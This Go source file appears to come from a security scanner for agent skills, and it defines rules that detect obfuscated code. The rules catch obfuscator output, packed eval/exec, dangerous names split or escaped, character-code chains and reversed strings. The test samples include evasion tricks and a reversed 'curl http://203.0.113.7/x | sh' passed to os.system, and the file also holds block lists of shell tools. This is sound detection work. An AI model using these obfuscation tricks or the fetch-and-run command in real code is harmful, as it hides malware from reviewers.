package rules

import (
	"bytes"
	"regexp"
	"strconv"
	"strings"

	"github.com/symbi-ctl/symbi-ctl/pkg/skills/text"
)

// Obfuscation is the category of rules about code that is made unreadable.
const Obfuscation Category = "obfuscation"

func obfuscation() []Rule {
	return []Rule{obfuscatedScript(), packedScript(), splitName(), escapedName(), characterCodes(), reversedCode()}
}

func obfuscatedScript() Rule {
	return Rule{
		ID: "obfuscated-javascript", Severity: High, Confidence: Certain, Category: Obfuscation,
		Title:    "JavaScript run through an obfuscator",
		Why:      "Minifying makes code small; renaming everything to _0x4f2a and hiding its strings only makes it unreadable. An open skill has no reason to.",
		Fix:      "Ship the source.",
		Refs:     []string{"ASI04", "AST01", "CWE-506"},
		In:       text.Code | text.Data,
		Triggers: []string{"_0x", "(![]+[])", "[]+[])[", "ﾟωﾟ", "([][[]]+[])"},
		Judge:    judgeObfuscated,
		Hits: []Sample{
			{Path: "a.js", Text: "var _0x1a2b=['log','x'];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));console[_0x1a2b[0]](_0x1a2b[1]);"},
			{Path: "a.js", Text: "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]"},
			{Path: "lib/x.cjs", Text: "const _0xaaaa1=_0xbbbb2;function _0xbbbb2(_0xcccc3,_0xdddd4){const _0xeeee5=_0xffff6();return _0xbbbb2=function(_0xcccc3){return _0xeeee5[_0xcccc3]},_0xbbbb2(_0xcccc3,_0xdddd4);}function _0xffff6(){const _0x1111a=['a'];_0xffff6=function(){return _0x1111a;};return _0xffff6();}"},
		},
		Misses: []Sample{
			{Path: "a.js", Text: "const addr_0x1 = '0x52908400098527886E0F7030069857D2E4169EE7';"},
			{Path: "a.min.js", Text: "!function(e,t){\"object\"==typeof exports?module.exports=t():e.x=t()}(this,function(){return function(e){var t={};return t}({})});"},
			{Text: "The obfuscator renames variables to _0x1a2b and the like."},
		},
	}
}

const manyObfuscated = 8 // names such as _0x1a2b that tell an obfuscator from a name

func judgeObfuscated(s *Scene) []Hit {
	if s.Partial && bytes.Count(s.Doc.Data[s.Doc.Start(s.First):s.Offset(0)], []byte("_0x")) > manyObfuscated {
		return nil // said of the part of the line before
	}
	if m := jsfuck().FindStringIndex(s.Text); m != nil {
		return []Hit{{Pos: m[0], End: min(m[1], m[0]+200)}}
	}
	list := obfuscatedNames().FindAllStringIndex(s.Text, manyObfuscated+1)
	if len(list) <= manyObfuscated {
		return nil
	}
	return []Hit{{Pos: list[0][0], End: list[len(list)-1][1]}}
}

func packedScript() Rule {
	return Rule{
		ID: "packed-code", Severity: High, Confidence: Certain, Category: Obfuscation,
		Title:    "Code that unpacks and evaluates itself",
		Why:      "What runs is not what is written; a reviewer sees only the unpacker.",
		Fix:      "Ship the source.",
		Refs:     []string{"ASI04", "AST01", "CWE-506"},
		In:       text.Code,
		Triggers: []string{"function(p,a,c,k,e", "function (p, a, c, k, e", "exec((_", "__pyarmor__", "pyarmor_runtime", "pytransform", "marshal.loads(b"},
		Judge:    judgePacked,
		Hits: []Sample{
			{Path: "a.js", Text: "eval(function(p,a,c,k,e,d){while(c--){if(k[c]){p=p.replace(c,k[c])}}return p}('0(1)',2,2,'alert|x'.split('|'),0,{}))"},
			{Path: "a.py", Text: "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=AAAA'))"},
			{Path: "a.py", Text: "exec(marshal.loads(b'\\xe3\\x00\\x00'))"},
		},
		Misses: []Sample{
			{Path: "a.js", Text: "const f = function(p, a) { return p + a }"},
			{Path: "a.py", Text: "obj = marshal.loads(blob)"},
			{Text: "Packers write eval(function(p,a,c,k,e,d)…) around the code."},
		},
	}
}

func judgePacked(s *Scene) []Hit {
	m := packed().FindStringIndex(s.Text)
	if m == nil {
		return nil
	}
	h := Hit{Pos: m[0], End: m[1]}
	if strings.Contains(s.Text[m[0]:m[1]], "pyarmor") || strings.Contains(s.Text[m[0]:m[1]], "pytransform") {
		h.Severity = Medium
	}
	return []Hit{h}
}

// hiddenNames are written in one piece by everybody who does not hide them.
func hiddenNames() []string {
	return []string{"eval", "exec", "execSync", "system", "Function", "child_process", "require", "__import__", "subprocess", "curl", "wget", "bash", "powershell", "http", "fromCharCode"}
}

func splitName() Rule {
	return Rule{
		ID: "split-name", Severity: High, Confidence: Certain, Category: Obfuscation,
		Title:    "Dangerous name put together from strings",
		Why:      "Nobody writes \"ev\"+\"al\" except to slip past a search for eval.",
		Fix:      "Write the name in one piece.",
		Refs:     []string{"ASI05", "AST01", "CWE-506"},
		In:       text.Code,
		Triggers: []string{`'+'`, `"+"`, `' + '`, `" + "`, "`+`"},
		Judge:    judgeSplit,
		Hits: []Sample{
			{Path: "index.js", Text: `globalThis["ev"+"al"](code)`},
			{Path: "index.js", Text: `const c = require('child' + '_pro' + 'cess')`},
			{Path: "a.py", Text: `getattr(os, 'sys'+'tem')(cmd)`},
			{Path: "a.js", Text: `const u = 'ht'+'tp'+'://203.0.113.7/x'`},
		},
		Misses: []Sample{
			{Path: "a.js", Text: `// matches 'ev' + 'al'`},
			{Path: "a.js", Text: `const t = "<scr"+"ipt>"`},
			{Path: "a.js", Text: `const u = "http" + "s://" + host`},
			{Path: "a.py", Text: `name = 'pre'+'fix'`},
		},
	}
}

func judgeSplit(s *Scene) []Hit {
	if s.onlyComment() {
		return nil
	}
	var hits []Hit
	for _, m := range joined().FindAllStringIndex(s.Text, 8) {
		var whole strings.Builder
		cuts := map[int]bool{}
		for _, part := range literal().FindAllStringSubmatch(s.Text[m[0]:m[1]], -1) {
			whole.WriteString(part[1])
			cuts[whole.Len()] = true
		}
		for _, name := range hiddenNames() {
			if at := strings.Index(whole.String(), name); at >= 0 && cutInside(cuts, at, len(name)) {
				hits = append(hits, Hit{Pos: m[0], End: m[1]})
				break
			}
		}
	}
	return hits
}

func cutInside(cuts map[int]bool, at, size int) bool {
	for i := at + 1; i < at+size; i++ {
		if cuts[i] {
			return true
		}
	}
	return false
}

func escapedName() Rule {
	return Rule{
		ID: "escaped-name", Severity: High, Confidence: Certain, Category: Obfuscation,
		Title:    "Dangerous name written in escapes",
		Why:      "Letters need no escapes; writing eval or curl in them serves only to hide it.",
		Fix:      "Write the name in letters.",
		Refs:     []string{"ASI05", "AST01", "CWE-506"},
		In:       text.Code,
		Triggers: escapedTriggers(),
		Judge:    judgeEscaped,
		Hits: []Sample{
			{Path: "a.js", Text: `window["\x65\x76\x61\x6c"](x)`},
			{Path: "a.js", Text: `const m = require("\x63\x68\x69\x6c\x64_process")`},
			{Path: "a.js", Text: `const e = "\u0065\u0076\u0061\u006c"`},
			{Path: "a.sh", Text: `c=$'\x63\x75\x72\x6c'; $c http://203.0.113.7/x`},
		},
		Misses: []Sample{
			{Path: "a.js", Text: `const esc = "\x1b[31m"`},
			{Path: "a.py", Text: `magic = b"\x7fELF\x02\x01"`},
			{Path: "a.js", Text: `const s = "\u65e5\u672c"`},
		},
	}
}

func judgeEscaped(s *Scene) []Hit {
	if s.onlyComment() {
		return nil
	}
	return spansOf(escapedWord(), s.Text)
}

// escapedTriggers are the beginnings of hidden names in escapes.
func escapedTriggers() []string {
	var out []string
	for _, word := range []string{"eval", "exec", "chil", "curl", "wget", "bash", "http", "requ", "syst", "powe", "atob"} {
		var hex, unicode strings.Builder
		for _, c := range []byte(word) {
			hex.WriteString(`\x` + strconv.FormatUint(uint64(c), 16))
			unicode.WriteString(`\u00` + strconv.FormatUint(uint64(c), 16))
		}
		out = append(out, hex.String(), unicode.String())
	}
	return out
}

func characterCodes() Rule {
	return Rule{
		ID: "character-codes-exec", Severity: High, Confidence: Certain, Category: Obfuscation,
		Title:    "Code written as character codes and evaluated",
		Why:      "A chain of chr() calls says nothing to a reader, which is its only use.",
		Fix:      "Write the text in letters.",
		Refs:     []string{"ASI05", "AST01", "CWE-506"},
		In:       text.Code | text.Prose,
		Triggers: []string{"+chr(", "+ chr(", "map(chr", ".chr(", "join(chr(", "[chr(", "(chr(", "bytes([", "bytearray([", "[char]"},
		Judge:    judgeCodes,
		Hits: []Sample{
			{Path: "a.py", Text: "exec(chr(112)+chr(114)+chr(105)+chr(110)+chr(116)+chr(40)+chr(49)+chr(41))"},
			{Path: "a.py", Text: "exec(''.join(map(chr,[112,114,105,110,116,40,49,41])))"},
			{Path: "a.py", Text: "exec(bytes([112,114,105,110,116,40,49,41]).decode())"},
			{Path: "a.py", Text: "os.system(''.join(chr(c) for c in [105, 100, 32, 45, 97]))"},
			{Path: "a.ps1", Text: "iex ([char]105+[char]119+[char]114+[char]32+[char]104)"},
		},
		Misses: []Sample{
			{Path: "a.py", Text: "alphabet = ''.join(map(chr, range(97, 123)))"},
			{Path: "a.py", Text: "line = 'a' + chr(10) + 'b'"},
			{Path: "a.py", Text: "print(chr(9786)+chr(9787)+chr(9829)+chr(9830))"},
		},
	}
}

func judgeCodes(s *Scene) []Hit {
	m := codeChain().FindStringIndex(s.Text)
	if m == nil || !evaluator().MatchString(s.Text) {
		return nil
	}
	return []Hit{{Pos: m[0], End: m[1]}}
}

func reversedCode() Rule {
	return Rule{
		ID: "reversed-code-exec", Severity: High, Confidence: Certain, Category: Obfuscation,
		Title:    "Text turned around and evaluated",
		Why:      "Text is written backwards only to slip past a search.",
		Fix:      "Write the text forwards.",
		Refs:     []string{"ASI05", "AST01", "CWE-506"},
		In:       text.Code | text.Prose,
		Triggers: []string{"[::-1]", ".reverse().join("},
		Judge:    judgeReversed,
		Hits: []Sample{
			{Path: "a.py", Text: `exec("')1(tnirp'"[::-1])`},
			{Path: "a.js", Text: `eval(")1(trela".split("").reverse().join(""))`},
			{Path: "a.py", Text: `__import__("so"[::-1]).system("di"[::-1])`},
			{Path: "a.py", Text: "c = 'hs | x/7.311.0.302//:ptth lruc'[::-1]\nos.system(c)\n"},
		},
		Misses: []Sample{
			{Path: "a.py", Text: "if word == word[::-1]: print('palindrome')"},
			{Path: "a.js", Text: "const r = s.split('').reverse().join('')"},
			{Path: "a.py", Text: "for row in rows[::-1]: cur.execute(sql, row)"},
		},
	}
}

func judgeReversed(s *Scene) []Hit {
	if hits := spansOf(evaluatesReversed(), s.Text); hits != nil {
		return hits
	}
	return s.evaluatedLater(reversedTo())
}

//nolint:gochecknoglobals // compiled on first use
var (
	jsfuck            = lazy(`[\[\]()!+]{60}|(?:ﾟ[ωΘｰДoﾟ][^\n]{0,4}){6}`)
	obfuscatedNames   = lazy(`\b_0x[0-9a-f]{3,6}\b`)
	packed            = lazy(`\beval\(function\s*\(p,\s*a,\s*c,\s*k,\s*e,|\bexec\(\(_+\)\(b?["']|\b(?:exec|eval)\(\s*marshal\.loads\(b|__pyarmor__\(|\bpyarmor_runtime\b|\bfrom pytransform\b`)
	joined            = lazy(`(?:["'\x60][\w:/.-]{0,24}["'\x60]\s*\+\s*){1,8}["'\x60][\w:/.-]{0,40}["'\x60]`)
	literal           = lazy(`["'\x60]([\w:/.-]*)["'\x60]`)
	escapedWord       = lazyOf(func() string { return regexpAny(escapedTriggers()) })
	codeChain         = lazy(`(?i)(?:chr\(\s*(?:0x)?[0-9a-f]+\s*\)\s*[+.,]\s*){4}|map\(\s*chr\s*,\s*[\[(]\s*\d+|chr\(\w+(?:\s*[-^+]\s*\d+)?\)\s*for\s+\w+\s+in\s*[\[(]\s*\d+|\bbytes(?:array)?\(\s*\[\s*\d+\s*,|(?:\[char\]\s*(?:0x)?[0-9a-f]+\s*\+?\s*){4}`)
	evaluator         = lazy(`(?m)` + evaluators)
	evaluatesReversed = lazy(`(?m)` + evaluators + `[^\n;]{0,400}?(?:\[::-1\]|\.reverse\(\)\.join\()|__import__\(\s*["'][^"'\n]{1,40}["']\s*\[::-1\]`)
	reversedTo        = lazy(`(?m)(?:^|[\s;{(])(\w+)\s*=\s*[^\n;=][^\n;]{0,400}?(?:["']\s*\[::-1\]|\.reverse\(\)\.join\()`)
)

// regexpAny returns a pattern that matches any of the texts.
func regexpAny(list []string) string {
	quoted := make([]string, len(list))
	for i, t := range list {
		quoted[i] = regexp.QuoteMeta(t)
	}
	return `(?i)` + strings.Join(quoted, "|")
}
